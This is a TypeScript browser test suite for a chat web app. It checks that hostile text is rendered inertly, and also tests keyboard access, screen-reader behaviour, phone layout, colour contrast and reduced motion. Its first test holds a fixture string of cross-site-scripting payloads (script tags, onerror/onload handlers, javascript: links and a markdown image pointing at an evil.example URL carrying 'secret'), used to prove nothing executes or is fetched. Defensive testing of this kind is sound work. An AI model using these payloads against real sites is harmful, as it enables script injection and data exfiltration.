// The page for everybody: hostile text stays text, the keyboard reaches all, screen readers know all, and it fits a phone.
import { existsSync, statSync } from 'node:fs';
import type { Page } from 'playwright-core';
import { afterEach, expect } from 'vitest';
import { browserTest, openBrowser, picture, said, say, visit } from './browser.ts';
import { dictated, type House, openHouse } from './house.ts';
import { luminance, nameless, overflow, tooFaint } from './look.ts';

const browser = openBrowser();
const houses: House[] = [];
afterEach(async () => void (await Promise.all(houses.splice(0).map((house) => house.close()))));

async function house(models?: ReturnType<typeof dictated>): Promise<string> {
  const opened = await openHouse(models ? { models: models.models } : {});
  houses.push(opened);
  return opened.url;
}

const hostile = `<img src=x onerror="window.pwned=1"><script>window.pwned=1</script><svg onload=window.pwned=1>
[a](javascript:window.pwned=1) [b](data:text/html,<script>1</script>) ![c](https://evil.example/?q=secret) https://evil.example/bare
<a href="javascript:window.pwned=1">d</a> <style>body{display:none}</style> <iframe src="javascript:window.pwned=1"></iframe>
\`\`\`"><script>window.pwned=1</script>
</code></pre><script>window.pwned=1</script>
\`\`\``;

browserTest('hostile text, names and answers stay text: nothing runs, and nothing is fetched', async () => {
  const model = dictated();
  const url = await house(model);
  const person = await browser.person();
  const asked: string[] = [];
  person.on('request', (request) => void asked.push(request.url()));
  const page = await visit(person, url);
  await page.getByRole('textbox', { name: 'Your name' }).fill('<img src=x onerror=window.pwned=1>');
  await say(page, hostile);
  model.say(hostile);
  model.end();
  await page.locator('article.bot[aria-busy=false]').waitFor();
  await page.reload();
  await page.locator('article.bot[aria-busy=false]').waitFor();
  expect(await page.evaluate('window.pwned')).toBeUndefined();
  expect(await page.getByRole('log').locator('img, script, svg:not(.act svg), iframe, style').count()).toBe(0);
  const links = await page.evaluate<string[][]>(
    `[...log.querySelectorAll('a')].map((link) => [link.getAttribute('href'), link.rel, link.textContent])`,
  );
  expect(links).toEqual([
    ['https://evil.example/?q=secret', 'noopener noreferrer', 'c https://evil.example/?q=secret'],
    ['https://evil.example/bare', 'noopener noreferrer', 'https://evil.example/bare'],
  ]);
  expect(asked.filter((one) => !one.startsWith(url))).toEqual([]);
  expect(page.troubles).toEqual([]);
});

browserTest('everything can be done by keyboard alone, in a sensible order, with the focus in sight', async () => {
  const model = dictated();
  const page = await visit(await browser.person(), await house(model));
  await expect.poll(() => focused(page)).toBe('Message');
  await page.keyboard.type('one line');
  await page.keyboard.press('Shift+Enter');
  await page.keyboard.type('and another');
  await page.keyboard.press('Enter');
  model.say('Here is `code`:\n\n```\nx\n```');
  await page.getByRole('button', { name: 'Stop' }).waitFor();
  expect(await focused(page)).toBe('Message');
  await page.keyboard.press('Tab');
  expect(await focused(page)).toBe('Stop');
  await page.keyboard.press('Enter');
  await page.getByRole('note').filter({ hasText: 'Stopped.' }).waitFor();
  await expect.poll(() => focused(page)).toBe('Message');

  await page.getByRole('link', { name: 'Skip to the message field' }).focus();
  const reached: string[] = [];
  for (let stop = 0; stop < 25 && reached.at(-1) !== 'Send'; stop++) {
    reached.push(await focused(page));
    expect(await outlined(page), reached.at(-1)).toBe(true);
    await page.keyboard.press('Tab');
  }
  expect(reached).toEqual([
    'Skip to the message field',
    'New conversation',
    'Settings and help',
    'one line and another',
    'Your name, as the bot sees it',
    'Edit',
    'Delete',
    'More',
    'Copy',
    'Code',
    'Go on',
    'Again',
    'Good answer',
    'Bad answer',
    'Delete',
    'More',
    'Attach files',
    'Record a voice message',
    'Message',
    'Send',
  ]);
});

browserTest('a skip link leads past everything to the message field', async () => {
  const page = await visit(await browser.person(), await house());
  await page.getByRole('link', { name: 'Skip to the message field' }).press('Enter');
  expect(await focused(page)).toBe('Message');
});

browserTest('every control has a name, every id is unique, and the structure has its landmarks', async () => {
  const model = dictated();
  const page = await visit(await browser.person(), await house(model));
  await say(page, 'hello');
  model.say('# Title\n\n| a |\n|---|\n| b |\n\n```\nx\n```');
  model.end();
  await page.locator('article.bot[aria-busy=false]').waitFor();
  expect(await nameless(page)).toEqual([]);
  const ids = await page.evaluate<string[]>(`[...document.querySelectorAll('[id]')].map(({ id }) => id)`);
  expect(ids.length).toBeGreaterThan(10);
  expect(new Set(ids).size).toBe(ids.length);
  for (const role of ['banner', 'main', 'navigation', 'complementary', 'log'] as const)
    expect(await page.getByRole(role).count(), role).toBe(1);
  expect(await page.locator('html').getAttribute('lang')).toBe('en');
  expect(await page.getByRole('heading', { level: 1 }).innerText()).toContain('Parley');
  // An answer's title stands below the page's own.
  expect(await page.getByRole('log').getByRole('heading', { level: 3 }).innerText()).toBe('Title');
});

browserTest('a screen reader hears an answer once, when it is whole', async () => {
  const model = dictated();
  const page = await visit(await browser.person(), await house(model));
  expect(await page.getByRole('log').getAttribute('aria-live')).toBe('off');
  const heard: string[] = [];
  await page.exposeFunction('hear', (text: string) => void heard.push(text));
  await page.evaluate(
    `new MutationObserver(() => hear(announcer.textContent)).observe(announcer, { childList: true, characterData: true, subtree: true })`,
  );
  await say(page, 'hello');
  for (const word of ['One ', 'two ', 'three.']) {
    model.say(word);
    await said(page, word.trim()).waitFor();
  }
  model.end();
  await expect.poll(() => heard).toEqual(['Parley: One two three.']);
});

for (const width of [320, 360, 768]) {
  browserTest(`nothing runs over the edge of a screen ${width} pixels wide`, async () => {
    const model = dictated();
    const page = await visit(await browser.person({ viewport: { width, height: 640 } }), await house(model));
    expect(await overflow(page)).toEqual([]);
    await say(page, 'W'.repeat(300));
    model.say(
      `${'w'.repeat(300)}\n\nhttps://a.example/${'x'.repeat(300)}\n\n\`\`\`\n${'c'.repeat(300)}\n\`\`\`\n\n| ${'t | '.repeat(30)}\n|${'---|'.repeat(30)}\n\n- ${'l'.repeat(300)}\n\n> ${'q'.repeat(300)}`,
    );
    await page.locator('article.bot blockquote').waitFor();
    expect(await overflow(page)).toEqual([]);
    model.end();
  });
}

browserTest('on a phone the conversations open over the talk, and close by Esc', async () => {
  const page = await visit(
    await browser.person({ viewport: { width: 360, height: 640 }, hasTouch: true }),
    await house(),
  );
  await say(page, 'say hello');
  await said(page, '“hello”').waitFor();
  const menu = page.getByRole('button', { name: 'Conversations' });
  expect(await page.getByRole('link', { name: 'say hello' }).isVisible()).toBe(false);
  await menu.click();
  expect(await menu.getAttribute('aria-expanded')).toBe('true');
  await page.getByRole('link', { name: 'say hello' }).waitFor();
  await page.keyboard.press('Escape');
  expect(await menu.getAttribute('aria-expanded')).toBe('false');
  expect(await page.getByRole('link', { name: 'say hello' }).isVisible()).toBe(false);
});

for (const colorScheme of ['light', 'dark'] as const) {
  browserTest(`all text stands out from its ground in ${colorScheme}, by WCAG's 4.5 to 1`, async () => {
    const model = dictated();
    const page = await visit(
      await browser.person({ colorScheme, viewport: { width: 1100, height: 800 } }),
      await house(model),
    );
    await picture(page, `empty-${colorScheme}`);
    const faint = await tooFaint(page);
    await say(page, 'hello');
    model.say(
      '# Title\n\nText, *soft*, **strong**, `code` and [a link](https://a.example).\n\n> quoted\n\n> [!NOTE]\n> A note.\n\n```ts\nconst x = 1;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |',
    );
    await page.locator('article.bot table').waitFor();
    await page.getByRole('button', { name: 'Stop' }).waitFor();
    faint.push(...(await tooFaint(page)));
    const path = await picture(page, `answer-${colorScheme}`);
    model.end();
    expect(faint).toEqual([]);
    expect(existsSync(path) && statSync(path).size).toBeGreaterThan(10_000);
    const ground = await page.evaluate<string>('getComputedStyle(document.documentElement).backgroundColor');
    expect(luminance(ground) > 0.5).toBe(colorScheme === 'light');
  });
}

browserTest('nothing moves for those who asked for that', async () => {
  const model = dictated();
  const page = await visit(await browser.person({ reducedMotion: 'reduce' }), await house(model));
  await say(page, 'hello');
  model.say('growing');
  await said(page, 'growing').waitFor();
  expect(await page.evaluate<number>('document.getAnimations().length')).toBe(0);
  await page.emulateMedia({ reducedMotion: 'no-preference' });
  await expect.poll(() => page.evaluate<number>('document.getAnimations().length')).toBeGreaterThan(0);
  model.end();
});

/** What has the focus, by the name that a screen reader tells. */
async function focused(page: Page): Promise<string> {
  return page.evaluate<string>(`(() => {
    const one = document.activeElement;
    return (one.getAttribute('aria-label') ?? one.labels?.[0]?.innerText ?? one.innerText).replace(/\\s+/g, ' ').trim();
  })()`);
}

async function outlined(page: Page): Promise<boolean> {
  return page.evaluate<boolean>(`(() => {
    const shown = (one) => one && (getComputedStyle(one).outlineStyle !== 'none' || getComputedStyle(one).boxShadow !== 'none');
    return shown(document.activeElement) || shown(document.activeElement.closest('.field'));
  })()`);
}
